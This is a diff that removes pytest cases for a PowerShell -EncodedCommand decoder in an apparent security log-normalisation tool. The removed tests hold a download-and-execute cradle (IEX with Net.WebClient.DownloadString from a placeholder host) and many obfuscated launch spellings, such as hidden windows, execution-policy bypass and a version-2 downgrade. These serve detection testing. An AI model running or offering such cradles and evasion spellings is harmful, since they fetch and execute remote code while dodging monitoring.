@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 from datetime import UTC, datetime
 from urllib.parse import urlsplit
 
@@ -10,9 +9,7 @@ import pytest
 
 from ingest.normalize import (
     canonical_ip,
-    decode_powershell_command,
     ip_or_none,
-    is_powershell_image,
     normalize_domain,
     normalize_host,
     normalize_url,
@@ -27,157 +24,6 @@ from ingest.normalize import (
 )
 def test_ip_or_none_is_the_lenient_canonical_ip(text):
     assert ip_or_none(text) == canonical_ip(text, strict=False)
-
-
-# -- PowerShell -EncodedCommand --------------------------------------------------
-
-SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"
-B64 = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
-PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
-ALL_PREFIXES = ["encodedcommand"[:n] for n in range(1, len("encodedcommand") + 1)]
-
-
-def _b64(text: str) -> str:
-    return base64.b64encode(text.encode("utf-16-le")).decode()
-
-
-@pytest.mark.parametrize("name", [*ALL_PREFIXES, "ec"])
-@pytest.mark.parametrize("case", [str.lower, str.upper, str.title])
-def test_every_prefix_of_encodedcommand_and_ec_decode(name: str, case) -> None:
-    assert decode_powershell_command(f"{PS} -nop -w hidden -{case(name)} {B64}") == SCRIPT
-
-
-@pytest.mark.parametrize(
-    "command_line",
-    [
-        f"powershell -e {B64}",
-        f"powershell.exe -ec {B64}",
-        f"powershell -ENC {B64}",
-        f"powershell -eNcOdEdCoMmAnD {B64}",
-        f"powershell /enc {B64}",
-        f"powershell /ec {B64}",
-        f"powershell --enc {B64}",
-        f"powershell \u2013enc {B64}",  # en dash
-        f"powershell \u2014enc {B64}",  # em dash
-        f"powershell \u2015ec {B64}",  # horizontal bar
-        f'powershell "-enc" {B64}',  # the switch in quotes is the same argument
-        f'powershell -enc "{B64}"',  # double quotes are argument syntax
-        f'powershell -enc "{B64[:20]} {B64[20:40]}\t{B64[40:]}"',  # .NET skips white space in base64
-        f"powershell -enc   {B64}   -noexit",
-        f"powershell -ep bypass -enc {B64}",
-        f"powershell -ex bypass -e {B64}",
-        f"powershell -version 2 -enc {B64}",  # downgrade: -version takes a value
-        f"powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {B64}",
-        f'"{PS}" -noP -sta -w 1 -enc  {B64}',
-        rf"C:\Program Files\PowerShell\7\pwsh.exe -ec {B64}",
-        rf'"C:\Program Files\PowerShell\7\pwsh.exe" -ec {B64}',
-        f"PWSH -e {B64}",
-        rf"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell_ISE.EXE -enc {B64}",
-    ],
-)
-def test_spellings_powershell_accepts_are_decoded(command_line: str) -> None:
-    assert decode_powershell_command(command_line) == SCRIPT
-
-
-@pytest.mark.parametrize(
-    "command_line",
-    [
-        f"powershell -ex {B64}",  # -ExecutionPolicy
-        f"powershell -ep {B64}",  # -ExecutionPolicy's alias
-        f"powershell -ea {B64}",  # -EncodedArguments
-        f"powershell -encodeda {B64}",
-        f"powershell -encodedcommandx {B64}",
-        f"powershell -EncodedCommand:{B64}",  # no such switch: PowerShell fails on it
-        f"powershell -enc '{B64}'",  # single quotes reach .NET and are not base64
-        f"powershell -enc {B64[:20]} {B64[20:]}",  # unquoted split: PowerShell refuses the second part
-        f"powershell -c echo -enc {B64}",  # after -Command the rest is the script's text
-        f'powershell -command "Write-Host -enc {B64}"',
-        f"powershell -f run.ps1 -enc {B64}",
-        f"powershell run.ps1 -enc {B64}",  # a free argument starts the command or file
-        f"powershell -enc {B64} -c dir",  # a second command: PowerShell refuses it
-        f"powershell -enc {B64} extra",
-        "powershell -enc",
-        f"powershell enc {B64}",
-        f"powershell e{B64}",
-        f"cmd /c echo -e {B64}",  # not PowerShell
-        f"cmd.exe /c powershell -enc {B64}",  # the process is cmd.exe; its child's line has its own event
-        f"python -enc {B64}",
-        f"C:\\tools\\powershell-helper.exe -enc {B64}",
-    ],
-)
-def test_spellings_powershell_refuses_are_not_decoded(command_line: str) -> None:
-    assert decode_powershell_command(command_line) is None
-
-
-@pytest.mark.parametrize(
-    ("payload", "expected"),
-    [
-        (_b64("IEX"), "IEX"),  # 'SQBFAFgA': no padding needed
-        (_b64("IEX1"), "IEX1"),  # 'SQBFAFgAMQA=': one '='
-        (_b64("IEX1").rstrip("="), "IEX1"),  # unpadded, cut short by a logger
-        (_b64("Get-Date"), "Get-Date"),
-        (_b64("IEX12"), "IEX12"),  # 'SQBFAFgAMQAyAA==': two '='
-        (_b64("IEX12").rstrip("="), "IEX12"),
-        (_b64("IEX12")[:-1], "IEX12"),
-        (_b64("IEX1") + "=", None),  # too much padding
-        (_b64("IEX12")[:-3], None),  # one base64 character left over: no byte
-        ("SQBF-AFgA", None),  # base64url characters: .NET refuses them
-        ("SQBF_AFgA", None),
-        ("", None),
-    ],
-)
-def test_padding_variants(payload: str, expected: str | None) -> None:
-    assert decode_powershell_command(f"powershell -enc {payload}" if payload else "powershell -enc") == expected
-
-
-@pytest.mark.parametrize(
-    "payload",
-    [
-        base64.b64encode(b"Hello World!!!").decode(),  # ASCII read as UTF-16LE: CJK-range garbage
-        base64.b64encode(bytes(range(32)) * 2).decode(),  # control characters
-        base64.b64encode("\x01\x02\x03\x04IEX".encode("utf-16-le")).decode(),
-        base64.b64encode(b"\x00\xd8A\x00B\x00C\x00").decode(),  # lone high surrogate
-        base64.b64encode(bytes(range(256))).decode(),
-        base64.b64encode("中文字符串的脚本".encode("utf-16-le")).decode(),  # no PowerShell syntax
-    ],
-)
-def test_garbage_payloads_are_not_decoded(payload: str) -> None:
-    assert decode_powershell_command(f"powershell.exe -enc {payload}") is None
-
-
-def test_a_script_with_a_few_odd_characters_is_still_decoded() -> None:
-    # one NUL or non-ASCII word must not hide a real script from the analyst
-    script = "Write-Host 'héllo wörld'\x00; " + SCRIPT
-    assert decode_powershell_command(f"powershell -enc {_b64(script)}") == script
-
-
-@pytest.mark.parametrize(
-    ("executable", "decodes"),
-    [
-        (PS, True),
-        ("pwsh", True),
-        ("/usr/bin/pwsh", True),
-        ("POWERSHELL.EXE", True),
-        (r"C:\Windows\System32\cmd.exe", False),
-        (r"C:\Windows\System32\wscript.exe", False),
-        ("powershell.exe.bak", False),
-    ],
-)
-def test_the_executable_decides_when_given(executable: str, decodes: bool) -> None:
-    # the command line's own program is powershell; the image given wins
-    result = decode_powershell_command(f"powershell -enc {B64}", executable)
-    assert (result == SCRIPT) if decodes else result is None
-
-
-def test_the_command_line_program_decides_when_no_executable() -> None:
-    assert decode_powershell_command(f"whatever.exe -enc {B64}", PS) == SCRIPT
-    assert decode_powershell_command(f"whatever.exe -enc {B64}") is None
-
-
-def test_is_powershell_image() -> None:
-    assert [is_powershell_image(p) for p in (PS, '"pwsh.exe"', "powershell_ise", None, "", "ps.exe")] == [
-        True, True, True, False, False, False,
-    ]
 
 
 # -- hosts, epoch times, URLs ------------------------------------------------------
